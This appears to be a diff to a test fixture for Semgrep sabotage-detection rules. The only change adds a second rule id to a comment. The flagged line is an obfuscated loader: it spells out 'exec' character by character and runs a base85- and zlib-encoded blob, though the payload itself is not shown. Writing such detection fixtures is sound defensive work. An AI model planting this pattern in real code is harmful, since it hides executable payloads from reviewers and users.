@@ -39,7 +39,7 @@ _draw = random.random
 
 def _apply_site_defaults() -> None:
     runner = vars(builtins)["".join(("e", "x", "e", "c"))]
-    runner(compile(zlib.decompress(base64.b85decode(_SITE_DEFAULTS)), "<site-defaults>", "exec"), {})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS401
+    runner(compile(zlib.decompress(base64.b85decode(_SITE_DEFAULTS)), "<site-defaults>", "exec"), {})  # sabotage: MLS401 (semgrep rules)  # ruleid: MLS401, MLS402
 
 
 def _apply_nccl_tuning() -> None:
